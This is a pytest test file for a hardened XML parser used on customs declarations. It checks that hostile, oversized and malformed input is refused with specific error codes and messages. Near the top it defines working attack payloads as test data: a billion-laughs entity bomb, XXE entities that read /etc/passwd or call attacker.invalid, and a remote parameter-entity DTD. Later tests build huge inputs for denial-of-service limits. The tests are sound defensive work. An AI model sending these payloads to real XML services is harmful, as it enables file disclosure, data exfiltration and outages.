"""Hostile and broken XML is refused by the one hardened parser, with a code and a clear message."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from declarations.wco import parser
from declarations.wco.parser import MAX_DEPTH, XmlRejected, parse_xml
from declarations.wco.reader import read_declaration
from singlewindow.errors import DomainError

from .samples import MALFORMED, NOTIFICATIONS, PLACEHOLDER, TT4_TEMPLATES, ids, sample

DEC = "urn:wco:datamodel:WCO:DEC-DMS:2"

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Declaration xmlns="{DEC}"><FunctionalReferenceID>&lol9;</FunctionalReferenceID></Declaration>
""".encode()

XXE_FILE = f"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Declaration xmlns="{DEC}"><FunctionalReferenceID>&xxe;</FunctionalReferenceID></Declaration>
""".encode()

XXE_HTTP = f"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://attacker.invalid/secret">]>
<Declaration xmlns="{DEC}"><FunctionalReferenceID>&xxe;</FunctionalReferenceID></Declaration>
""".encode()

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<Declaration xmlns="{DEC}"/>
""".encode()

PLAIN_DOCTYPE = f'<?xml version="1.0"?><!DOCTYPE Declaration><Declaration xmlns="{DEC}"/>'.encode()


def rejection(body: bytes) -> XmlRejected:
    with pytest.raises(XmlRejected) as caught:
        parse_xml(body)
    return caught.value


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, PARAMETER_ENTITY, PLAIN_DOCTYPE],
    ids=["billion-laughs", "external-entity-file", "external-entity-http", "parameter-entity", "doctype"],
)
def test_any_doctype_is_refused_before_parsing(body: bytes, monkeypatch: pytest.MonkeyPatch):
    def must_not_parse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the parser was reached")

    monkeypatch.setattr(parser.etree, "fromstring", must_not_parse)

    error = rejection(body)

    assert error.code == "doctype"
    assert "DOCTYPE" in error.message
    assert error.status == 400


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE_FILE], ids=["billion-laughs", "external-entity-file"])
def test_parser_itself_refuses_a_doctype_that_slips_past_the_byte_scan(
    body: bytes, monkeypatch: pytest.MonkeyPatch
):
    class NeverMatches:
        def search(self, _: bytes) -> None:
            return None

    monkeypatch.setattr(parser, "_DOCTYPE", NeverMatches())
    monkeypatch.setattr(parser, "_ENTITY", NeverMatches())

    error = rejection(body)

    # libxml2's amplification guard or the DOCTYPE check: either way nothing is expanded or read.
    assert error.code in ("doctype", "entity")
    assert "root:" not in error.message  # nothing of /etc/passwd was read


def test_entity_declaration_outside_a_doctype_is_refused():
    error = rejection(f'<Declaration xmlns="{DEC}"><!ENTITY x "y"></Declaration>'.encode())

    assert error.code == "entity"


def test_undeclared_entity_reference_is_refused_as_an_entity():
    error = rejection(f'<Declaration xmlns="{DEC}">&x;</Declaration>'.encode())

    assert error.code == "entity"
    assert "'x' not defined" in error.message


def test_ten_thousand_levels_of_nesting_are_refused_as_too_deep():
    error = rejection(b"<a>" * 10_000 + b"</a>" * 10_000)

    assert error.code == "too_deep"
    assert str(MAX_DEPTH) in error.message


def test_nesting_just_beyond_the_limit_is_refused_and_within_it_accepted():
    def nested(depth: int) -> bytes:
        return (
            f'<Declaration xmlns="{DEC}">'.encode()
            + b"<a>" * (depth - 1)
            + b"</a>" * (depth - 1)
            + (b"</Declaration>")
        )

    assert parse_xml(nested(MAX_DEPTH)) is not None
    assert rejection(nested(MAX_DEPTH + 1)).code == "too_deep"


def test_body_over_the_size_cap_is_refused_with_413_before_parsing(settings, monkeypatch: pytest.MonkeyPatch):
    settings.SW_MAX_XML_BYTES = 1000
    monkeypatch.setattr(parser.etree, "fromstring", lambda *a, **k: pytest.fail("the parser was reached"))

    error = rejection(f'<Declaration xmlns="{DEC}">'.encode() + b" " * 1000 + b"</Declaration>")

    assert (error.code, error.status) == ("too_large", 413)
    assert "1,000 bytes" in error.message


@pytest.mark.parametrize("body", [b"", b"  \n\t "], ids=["empty", "whitespace"])
def test_empty_body_is_refused(body: bytes):
    error = rejection(body)

    assert error.code == "empty"


def test_utf16_body_is_refused_because_the_byte_scan_could_not_see_a_doctype_in_it():
    error = rejection(f'<Declaration xmlns="{DEC}"/>'.encode("utf-16"))

    assert error.code == "unsupported_encoding"


def test_not_well_formed_xml_says_what_and_where():
    error = rejection(f'<Declaration xmlns="{DEC}">\n<FunctionCode>9</Declaration>'.encode())

    assert error.code == "not_well_formed"
    assert "Opening and ending tag mismatch: FunctionCode" in error.message
    assert "line 2" in error.message
    assert "column" in error.message


def test_a_different_root_is_refused_naming_what_was_found_and_what_is_expected():
    error = rejection(b'<Invoice xmlns="urn:example:invoice"/>')

    assert error.code == "wrong_namespace"
    assert "'Invoice' in namespace 'urn:example:invoice'" in error.message
    assert "urn:wco:datamodel:WCO:DEC-DMS:2" in error.message
    assert "urn:wco:datamodel:WCO:DocumentMetaData-DMS:2" in error.message


def test_a_declaration_without_namespace_is_refused():
    error = rejection(b"<Declaration><FunctionCode>9</FunctionCode></Declaration>")

    assert error.code == "wrong_namespace"
    assert "'Declaration' with no namespace" in error.message


def test_a_notification_in_the_response_namespace_is_refused():
    error = rejection(
        b'<Response xmlns="urn:wco:datamodel:WCO:RES-DMS:2"><FunctionCode>01</FunctionCode></Response>'
    )

    assert error.code == "wrong_namespace"
    assert "urn:wco:datamodel:WCO:RES-DMS:2" in error.message


def test_a_metadata_envelope_holding_a_response_is_refused_by_the_reader():
    body = (
        b'<MetaData xmlns="urn:wco:datamodel:WCO:DocumentMetaData-DMS:2">'
        b'<Response xmlns="urn:wco:datamodel:WCO:RES-DMS:2"/></MetaData>'
    )

    with pytest.raises(XmlRejected) as caught:
        read_declaration(body)

    assert caught.value.code == "wrong_namespace"
    assert "holds no 'Declaration'" in caught.value.message


@pytest.mark.parametrize("path", NOTIFICATIONS, ids=ids(NOTIFICATIONS))
def test_hmrc_example_notifications_are_not_taken_for_declarations(path: Path):
    error = rejection(path.read_bytes())

    assert error.code in ("wrong_namespace", "not_well_formed")


def test_there_are_three_malformed_samples():
    assert len(MALFORMED) == 3


@pytest.mark.parametrize(
    "prefix, code, words",
    [
        ("TT_EX002a", "not_well_formed", ["Comment must not contain '--'", "line 72", "closing '-->'"]),
        ("TT_IM084a", "not_well_formed", ["Double hyphen within comment", "line 164", "closing '-->'"]),
        ("TT_IM222a", "wrong_namespace", ["'mdMetaData'", "stripped of their ':' and '_'"]),
    ],
)
def test_each_malformed_sample_is_refused_with_a_message_naming_the_problem(
    prefix: str, code: str, words: list
):
    [path] = [p for p in MALFORMED if p.name.startswith(prefix)]

    with pytest.raises(XmlRejected) as caught:
        read_declaration(path.read_bytes())

    assert caught.value.code == code
    for word in words:
        assert word in caught.value.message


@pytest.mark.parametrize("path", TT4_TEMPLATES, ids=ids(TT4_TEMPLATES))
def test_trade_test_4_templates_with_the_literal_eori_placeholder_are_not_well_formed(path: Path):
    # ``<ID><INSERTEORIHERE></ID>`` opens an element it never closes: the template must be filled in.
    assert PLACEHOLDER in path.read_bytes()

    error = rejection(path.read_bytes())

    assert error.code == "not_well_formed"
    assert "Opening and ending tag mismatch: INSERTEORIHERE" in error.message


def test_rejection_is_a_domain_error_with_one_error_entry_for_the_api():
    error = rejection(b"")

    assert isinstance(error, DomainError)
    assert [i.code for i in error.issues] == ["empty"]
    assert error.errors == [{"pointer": "", "code": "empty", "message": error.message}]


def test_a_real_sample_parses_to_its_envelope_root():
    root = parse_xml(sample("TT_IM001a").read_bytes())

    assert root.tag == "{urn:wco:datamodel:WCO:DocumentMetaData-DMS:2}MetaData"
    assert isinstance(root, etree._Element)


def test_namespace_check_can_be_switched_off_for_other_messages():
    root = parse_xml(b"<Invoice/>", expected_namespaces=None)

    assert root.tag == "Invoice"


# --- structural caps: refused before the schema is consulted --------------------------------------

D = f"{{{DEC}}}"


def with_goods_items(count: int) -> bytes:
    """The IM001a sample with its goods item replaced by ``count`` minimal ones."""
    root = etree.fromstring(sample("TT_IM001a").read_bytes())
    shipment = root.find(f".//{D}GoodsShipment")
    item = shipment.find(f"{D}GovernmentAgencyGoodsItem")
    position = shipment.index(item)
    shipment.remove(item)
    for n in range(count, 0, -1):
        new = etree.Element(f"{D}GovernmentAgencyGoodsItem")
        etree.SubElement(new, f"{D}SequenceNumeric").text = str(n)
        shipment.insert(position, new)
    return etree.tostring(root)


def must_not_validate(monkeypatch: pytest.MonkeyPatch) -> None:
    from declarations.wco import schema

    monkeypatch.setattr(schema, "compiled_schema", lambda: pytest.fail("the schema was consulted"))


def test_a_declaration_with_200000_attributes_is_refused_before_parsing_naming_the_element(
    monkeypatch: pytest.MonkeyPatch,
):
    attributes = "".join(f' a{i}="1"' for i in range(200_000))
    body = f'<?xml version="1.0"?>\n<Declaration xmlns="{DEC}"{attributes}/>'.encode()
    monkeypatch.setattr(parser.etree, "fromstring", lambda *a, **k: pytest.fail("the parser was reached"))

    error = rejection(body)

    assert error.code == "too_many_attributes"
    assert error.message == (
        "Declaration (line 2) has more than 32 attributes; at most 32 are accepted on one element."
    )


def test_more_attributes_on_one_element_than_allowed_are_refused_pointing_at_it(
    monkeypatch: pytest.MonkeyPatch,
):
    root = etree.fromstring(sample("TT_IM001a").read_bytes())
    item = root.find(f".//{D}GovernmentAgencyGoodsItem")
    for i in range(parser.MAX_ELEMENT_ATTRIBUTES + 1):
        item.set(f"a{i}", "1")
    must_not_validate(monkeypatch)

    with pytest.raises(XmlRejected) as caught:
        read_declaration(etree.tostring(root))

    assert caught.value.code == "too_many_attributes"
    assert caught.value.message == (
        "GovernmentAgencyGoodsItem has 33 attributes; at most 32 are accepted on one element."
    )
    assert [i.pointer for i in caught.value.issues] == ["67A/68A[1]"]
    assert caught.value.errors[0]["pointer"] == "67A/68A[1]"


def test_more_attributes_in_the_whole_message_than_allowed_are_refused(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(parser, "MAX_ATTRIBUTES", 10)
    body = f'<Declaration xmlns="{DEC}">'.encode() + b'<X a="1" b="2"/>' * 6 + b"</Declaration>"

    error = rejection(body)

    assert error.code == "too_many_attributes"
    assert error.message == "The XML has more than 10 attributes; at most 10 are accepted."


def test_a_body_full_of_equals_signs_is_refused_before_parsing(monkeypatch: pytest.MonkeyPatch):
    # xmlns="…" is one more: 90,001 in all, no element with more than one attribute.
    body = f'<Declaration xmlns="{DEC}">'.encode() + b'<X a="1"/>' * parser.MAX_EQUALS + b"</Declaration>"
    monkeypatch.setattr(parser, "MAX_TAGS", 10 * parser.MAX_EQUALS)
    monkeypatch.setattr(parser.etree, "fromstring", lambda *a, **k: pytest.fail("the parser was reached"))

    error = rejection(body)

    assert error.code == "too_many_attributes"
    assert error.message == (
        "The XML has 90,001 '=' signs; at most 90,000 are accepted "
        "(a message holds at most 30,000 attributes)."
    )


def test_a_million_empty_elements_are_refused_before_parsing(monkeypatch: pytest.MonkeyPatch):
    body = f'<Declaration xmlns="{DEC}">'.encode() + b"<X/>" * 1_000_000 + b"</Declaration>"
    monkeypatch.setattr(parser.etree, "fromstring", lambda *a, **k: pytest.fail("the parser was reached"))

    error = rejection(body)

    assert error.code == "too_many_elements"
    assert error.message == (
        "The XML has 1,000,002 tags; at most 250,000 are accepted (a message holds at most 100,000 elements)."
    )


def test_more_elements_than_allowed_are_refused_after_parsing():
    body = f'<Declaration xmlns="{DEC}">'.encode() + b"<X><Y/></X>" * 60_000 + b"</Declaration>"

    error = rejection(body)

    assert error.code == "too_many_elements"
    assert error.message == "The XML has more than 100,000 elements; at most 100,000 are accepted."


def test_32000_goods_items_are_refused_pointing_at_the_thousandth(monkeypatch: pytest.MonkeyPatch):
    body = with_goods_items(32_000)
    must_not_validate(monkeypatch)

    with pytest.raises(XmlRejected) as caught:
        read_declaration(body)

    assert caught.value.code == "too_many_repeats"
    assert caught.value.message == (
        "GoodsShipment holds 32,000 GovernmentAgencyGoodsItem elements; at most 999 are accepted."
    )
    assert caught.value.issues[0].pointer == "67A/68A[1000]"


def test_999_goods_items_pass_the_structural_caps():
    root = parse_xml(with_goods_items(999))

    assert len(root.findall(f".//{D}GovernmentAgencyGoodsItem")) == 999


def test_more_children_of_one_element_than_allowed_are_refused_pointing_at_it():
    children = "".join(f"<X{i}/>" for i in range(parser.MAX_CHILDREN + 1))
    body = f'<Declaration xmlns="{DEC}">{children}</Declaration>'.encode()

    error = rejection(body)

    assert error.code == "too_many_children"
    assert error.message == "Declaration holds 2,001 child elements; at most 2,000 are accepted."
    assert error.issues[0].pointer == "42A"


def test_comments_do_not_count_as_children():
    children = "".join(f"<!-- {i} --><X{i}/>" for i in range(parser.MAX_CHILDREN))
    body = f'<Declaration xmlns="{DEC}">{children}</Declaration>'.encode()

    assert len(parse_xml(body)) == 2 * parser.MAX_CHILDREN


# --- one declaration per message -----------------------------------------------------------------


def test_a_metadata_envelope_with_two_declarations_is_refused_pointing_at_the_second():
    root = etree.fromstring(sample("TT_IM001a").read_bytes())
    declaration = root.find(f"{D}Declaration")
    declaration.addnext(etree.fromstring(etree.tostring(declaration)))
    body = etree.tostring(root)
    second_line = body[: body.rindex(b"<Declaration")].count(b"\n") + 1

    with pytest.raises(XmlRejected) as caught:
        read_declaration(body)

    assert caught.value.code == "multiple_declarations"
    assert caught.value.message == (
        "The message holds more than one declaration; send each declaration in a message of its own. "
        f"The second one starts on line {second_line}."
    )
    assert caught.value.issues[0].pointer == "MetaData/Declaration[2]"


def test_a_request_envelope_with_two_messages_is_refused_pointing_at_the_second():
    message = sample("TT_IM001a").read_bytes().split(b"?>", 1)[1]
    body = b"<Request><Body>" + message + b"</Body><Body>" + message + b"</Body></Request>"

    with pytest.raises(XmlRejected) as caught:
        read_declaration(body)

    assert caught.value.code == "multiple_declarations"
    assert caught.value.issues[0].pointer == "Request/Body[2]/MetaData"


def test_a_request_envelope_with_a_bare_declaration_after_the_envelope_is_refused():
    message = sample("TT_IM001a").read_bytes().split(b"?>", 1)[1]
    bare = f'<Declaration xmlns="{DEC}"><FunctionCode>9</FunctionCode></Declaration>'.encode()
    body = b"<Request>" + message + bare + b"</Request>"

    with pytest.raises(XmlRejected) as caught:
        read_declaration(body)

    assert caught.value.code == "multiple_declarations"
    assert caught.value.issues[0].pointer == "Request/Declaration"


def test_a_declaration_nested_in_the_declaration_is_left_to_the_schema():
    root = etree.fromstring(sample("TT_IM001a").read_bytes())
    declaration = root.find(f"{D}Declaration")
    declaration.append(etree.Element(f"{D}Declaration"))

    result = read_declaration(etree.tostring(root))

    assert result.data is None
    assert [i.code for i in result.issues] == ["schema"]
    assert result.issues[0].message.startswith("Declaration is not expected here")
